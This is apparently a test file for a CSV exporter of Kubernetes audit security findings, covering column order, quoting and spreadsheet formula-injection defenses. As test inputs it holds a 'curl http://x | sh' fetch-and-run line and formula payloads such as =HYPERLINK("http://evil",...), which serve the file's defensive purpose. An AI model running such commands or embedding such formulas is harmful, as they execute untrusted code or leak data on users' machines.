import { FINDINGS_CSV_COLUMNS, csvCell, renderFindingsCsv } from '../../../lambdas/core/compliance/csv';
import type { Finding } from '../../../lambdas/core/finding';
import { RULES } from '../../../lambdas/core/rules/index';
import { parseCsv as parse } from '../../helpers/csv';

function finding(overrides: Partial<Finding> = {}): Finding {
  return {
    ruleId: 'rbac.privileged-role-bound',
    category: 'rbac-change',
    severity: 'high',
    title: 'Cluster-admin or equivalent role bound',
    summary: 'alice@example.com bound cluster-admin to ServiceAccount kube-system/backdoor via ClusterRoleBinding pwn',
    auditID: '00000000-0000-4000-8000-000000000001',
    time: '2026-11-25T10:00:00.123456Z',
    cluster: 'prod',
    actor: {
      username: 'alice@example.com',
      groups: ['system:authenticated', 'devs'],
      sourceIPs: ['203.0.113.9', '10.0.0.1'],
      userAgent: 'kubectl/v1.31.0 (linux/amd64)',
    },
    target: { resource: 'clusterrolebindings', apiGroup: 'rbac.authorization.k8s.io', name: 'pwn' },
    verb: 'create',
    attack: ['T1098.006', 'T1078'],
    controls: ['CIS-5.1.1', 'CIS-5.1.7', 'NSA-CISA-k8s: Authentication and authorization'],
    evidence: {},
    ...overrides,
  };
}

describe('renderFindingsCsv', () => {
  it('has these columns, in this order', () => {
    expect(FINDINGS_CSV_COLUMNS).toEqual([
      'time',
      'cluster',
      'severity',
      'rule_id',
      'category',
      'title',
      'actor',
      'actor_groups',
      'impersonated_user',
      'verb',
      'resource',
      'subresource',
      'api_group',
      'namespace',
      'name',
      'summary',
      'audit_id',
      'source_ips',
      'user_agent',
      'attack',
      'controls',
    ]);
  });

  it('writes a header row and one CRLF-terminated record per finding', () => {
    const csv = renderFindingsCsv([finding()], RULES);
    expect(csv).toMatchInlineSnapshot(`
"time,cluster,severity,rule_id,category,title,actor,actor_groups,impersonated_user,verb,resource,subresource,api_group,namespace,name,summary,audit_id,source_ips,user_agent,attack,controls
2026-11-25T10:00:00.123456Z,prod,high,rbac.privileged-role-bound,rbac-change,Cluster-admin or equivalent role bound,alice@example.com,system:authenticated;devs,,create,clusterrolebindings,,rbac.authorization.k8s.io,,pwn,alice@example.com bound cluster-admin to ServiceAccount kube-system/backdoor via ClusterRoleBinding pwn,00000000-0000-4000-8000-000000000001,203.0.113.9;10.0.0.1,kubectl/v1.31.0 (linux/amd64),T1098.006;T1078,CIS-5.1.1;CIS-5.1.7;NSA-CISA:authentication-authorization
"
`);
    expect(csv.split('\r\n')).toHaveLength(3); // header, record, and the empty string after the last CRLF
    expect(csv).not.toMatch(/[^\r]\n/);
  });

  it('is only the header when there are no findings', () => {
    expect(renderFindingsCsv([], RULES)).toBe(`${FINDINGS_CSV_COLUMNS.join(',')}\r\n`);
  });

  it('takes controls from the rule, as catalogue ids, each once', () => {
    const [, record] = parse(renderFindingsCsv([finding({ ruleId: 'workload.privileged-pod', controls: [] })], RULES));
    const controls = record[FINDINGS_CSV_COLUMNS.indexOf('controls')].split(';');
    expect(controls).toContain('CIS-5.2.2');
    expect(controls).toContain('NSA-CISA:pod-security');
    expect(new Set(controls).size).toBe(controls.length);
    expect(record[FINDINGS_CSV_COLUMNS.indexOf('attack')]).toBe('T1610;T1611');
  });

  it("falls back to the finding's own lists for a rule it does not know, keeping unknown references as written", () => {
    const [, record] = parse(
      renderFindingsCsv([finding({ ruleId: 'custom.rule', controls: ['NSA-CISA-k8s: Pod security', 'ACME-42'], attack: ['T1610'] })], []),
    );
    expect(record[FINDINGS_CSV_COLUMNS.indexOf('controls')]).toBe('NSA-CISA:pod-security;ACME-42');
    expect(record[FINDINGS_CSV_COLUMNS.indexOf('attack')]).toBe('T1610');
  });

  it('quotes fields with commas and quotes, doubling the quotes, shows line breaks, and reads back as written', () => {
    const summary = 'alice ran `sh -c "curl http://x | sh"`, then\r\nleft';
    const name = 'a,b';
    const csv = renderFindingsCsv([finding({ summary, target: { resource: 'pods', subresource: 'exec', namespace: 'web', name } })], RULES);
    expect(csv).toContain('"alice ran `sh -c ""curl http://x | sh""`, then\\u{d}\\u{a}left"');
    expect(csv.split('\r\n')).toHaveLength(3); // header, record, and the empty string after the last CRLF
    const [header, record] = parse(csv);
    expect(header).toEqual([...FINDINGS_CSV_COLUMNS]);
    expect(record[FINDINGS_CSV_COLUMNS.indexOf('summary')]).toBe('alice ran `sh -c "curl http://x | sh"`, then\\u{d}\\u{a}left');
    expect(record[FINDINGS_CSV_COLUMNS.indexOf('name')]).toBe(name);
    expect(record[FINDINGS_CSV_COLUMNS.indexOf('subresource')]).toBe('exec');
    expect(record).toHaveLength(FINDINGS_CSV_COLUMNS.length);
  });

  it('defuses cells a spreadsheet would run as formulas', () => {
    const cases = ['=HYPERLINK("http://evil","x")', '+1+1', '-2+3', '@SUM(A1)', ' =1+1', '\uff1dcmd'];
    for (const name of cases) {
      const [, record] = parse(renderFindingsCsv([finding({ target: { resource: 'secrets', name }, actor: { username: name } })], RULES));
      expect(record[FINDINGS_CSV_COLUMNS.indexOf('name')]).toBe(`'${name}`);
      expect(record[FINDINGS_CSV_COLUMNS.indexOf('actor')]).toBe(`'${name}`);
    }
    // A leading tab or carriage return is shown as text, which no spreadsheet runs.
    for (const [name, shown] of [
      ['\tcmd', '\\u{9}cmd'],
      ['\r=1', '\\u{d}=1'],
    ]) {
      const [, record] = parse(renderFindingsCsv([finding({ target: { resource: 'secrets', name } })], RULES));
      expect(record[FINDINGS_CSV_COLUMNS.indexOf('name')]).toBe(shown);
    }
  });

  it('leaves cells alone that only contain those characters later on', () => {
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('system:serviceaccount:ns:sa-1')).toBe('system:serviceaccount:ns:sa-1');
    expect(csvCell('')).toBe('');
    expect(csvCell('=x,y')).toBe(`"'=x,y"`);
    expect(csvCell('"=x"')).toBe('"""=x"""');
  });
});
